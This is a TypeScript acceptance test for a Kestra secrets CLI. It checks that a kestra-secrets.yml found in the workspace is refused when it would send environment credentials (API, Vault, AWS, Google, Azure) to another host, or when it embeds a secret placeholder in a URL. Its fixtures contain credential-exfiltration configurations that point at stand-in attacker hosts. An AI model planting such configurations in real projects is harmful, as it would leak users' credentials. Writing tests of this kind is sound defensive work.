/**
 * Issue 13, finding 5: the CLI's trust model. A configuration cannot send an environment variable to a
 * host through a placeholder in an address, and a kestra-secrets.yml found in the workspace cannot point
 * credentials from the environment at an address of its choosing unless the user says so.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { buildCli, type BuiltCli } from '../fixtures/acceptance/cli';

const CANARY_TOKEN = 'CANARY-api-token-5f1e';
const CANARY_KEY = 'CANARY-aws-key-9a7b';
const FLOW =
  'id: f\nnamespace: company.team\ntasks:\n  - id: t\n    type: io.kestra.plugin.core.log.Log\n    message: "{{ secret(\'API_TOKEN\') }}"\n';

describe('CLI: a workspace configuration cannot send credentials where it chooses', function () {
  this.timeout(60_000);
  let cli: BuiltCli;
  let folder: string;
  let server: http.Server;
  let requests: string[];
  let serverUrl: string;

  before(async () => {
    cli = await buildCli();
    requests = [];
    server = http.createServer((request, response) => {
      requests.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
      response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    serverUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  beforeEach(() => {
    requests.length = 0;
    folder = fs.mkdtempSync(path.join(os.tmpdir(), 'kestra-secrets-trust-'));
    fs.mkdirSync(path.join(folder, '.git'));
    fs.writeFileSync(path.join(folder, 'flow.yml'), FLOW);
  });

  afterEach(() => fs.rmSync(folder, { recursive: true, force: true }));

  after(() => {
    cli.dispose();
    server.close();
  });

  const env = () => ({ KESTRA_API_TOKEN: CANARY_TOKEN, AWS_SECRET_ACCESS_KEY: CANARY_KEY, VAULT_TOKEN: CANARY_TOKEN });

  for (const command of ['check', 'list']) {
    it(`${command}: a placeholder in server.url is a configuration error and nothing is sent, even with --config`, async () => {
      fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), `server:\n  url: ${serverUrl}/x/\${AWS_SECRET_ACCESS_KEY}\n`);
      for (const args of [[command], [command, '--config', 'kestra-secrets.yml'], [command, '--trust-config']]) {
        const run = await cli.run(args, { cwd: folder, env: env() });
        assert.equal(run.code, 2, run.stderr);
        assert.match(
          run.stderr,
          /configuration error: .*server\.url: \$\{…\} placeholders are expanded only in credential fields .*in an address it would send the variable to the host it names/,
        );
        assert.doesNotMatch(run.stdout + run.stderr, /CANARY/);
      }
      assert.deepEqual(requests, []);
    });
  }

  it('refuses a discovered file that points KESTRA_API_TOKEN at a remote server, and names the way out', async () => {
    fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), 'server:\n  url: http://kestra.attacker.invalid:8080\n');
    const run = await cli.run(['check'], { cwd: folder, env: env() });
    assert.equal(run.code, 2, run.stderr);
    assert.match(
      run.stderr,
      /kestra-secrets\.yml was found in the workspace, not given with --config, and points your credentials at an address it chooses \(server\.url would receive KESTRA_API_TOKEN\)\. Check the file, then pass it with --config FILE or add --trust-config\./,
    );
    assert.doesNotMatch(run.stdout + run.stderr, /CANARY/);
  });

  it('refuses a discovered file that points VAULT_TOKEN at another Vault, and the AWS chain at another endpoint', async () => {
    const cases: [string, RegExp][] = [
      [
        'kestra:\n  secret:\n    type: vault\n    vault:\n      address: https://vault.attacker.invalid\n',
        /kestra\.secret\.vault\.address would receive VAULT_TOKEN/,
      ],
      [
        'kestra:\n  secret:\n    type: aws-secret-manager\n    aws-secret-manager:\n      region: eu-west-1\n      endpoint-override: https://aws.attacker.invalid\n',
        /kestra\.secret\.aws-secret-manager\.endpoint-override would receive the AWS default credential chain/,
      ],
      [
        'kestra:\n  secret:\n    type: google-secret-manager\n    google-secret-manager:\n      project: p\n      endpoint-override: https://google.attacker.invalid\n',
        /google-secret-manager\.endpoint-override would receive the Google default credentials/,
      ],
      [
        'kestra:\n  secret:\n    type: azure-key-vault\n    azure-key-vault:\n      key-vault-uri: https://azure.attacker.invalid\n',
        /azure-key-vault\.key-vault-uri would receive the Azure default credential chain/,
      ],
    ];
    for (const [text, expected] of cases) {
      fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), text);
      const run = await cli.run(['list'], { cwd: folder, env: env() });
      assert.equal(run.code, 2, run.stderr);
      assert.match(run.stderr, expected);
    }
  });

  it('--config and --trust-config let the same file through (the store is then asked)', async () => {
    fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), 'server:\n  url: http://kestra.attacker.invalid:8080\n');
    for (const args of [
      ['check', '--config', 'kestra-secrets.yml'],
      ['check', '--trust-config'],
    ]) {
      const run = await cli.run(args, { cwd: folder, env: env() });
      assert.doesNotMatch(run.stderr, /was found in the workspace/, args.join(' '));
      assert.notEqual(run.code, 2, run.stderr);
    }
  });

  it("--server replaces a discovered file's remote server.url, so the file is not refused for it", async () => {
    fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), 'server:\n  url: http://kestra.attacker.invalid:8080\n');
    const run = await cli.run(['check', '--server', serverUrl], { cwd: folder, env: env() });
    assert.doesNotMatch(run.stderr, /was found in the workspace/);
    assert.ok(requests.length > 0, 'the --server address was asked');
  });

  it('a discovered file pointing at this machine, or sending no credential, is used as before', async () => {
    fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), `server:\n  url: ${serverUrl}\n`);
    const local = await cli.run(['check'], { cwd: folder, env: env() });
    assert.doesNotMatch(local.stderr, /was found in the workspace/);
    assert.ok(requests.length > 0, 'the loopback server was asked');
    fs.writeFileSync(path.join(folder, 'kestra-secrets.yml'), 'server:\n  url: http://kestra.attacker.invalid:8080\n');
    const anonymous = await cli.run(['check'], { cwd: folder, env: {} });
    assert.doesNotMatch(anonymous.stderr, /was found in the workspace/);
  });
});
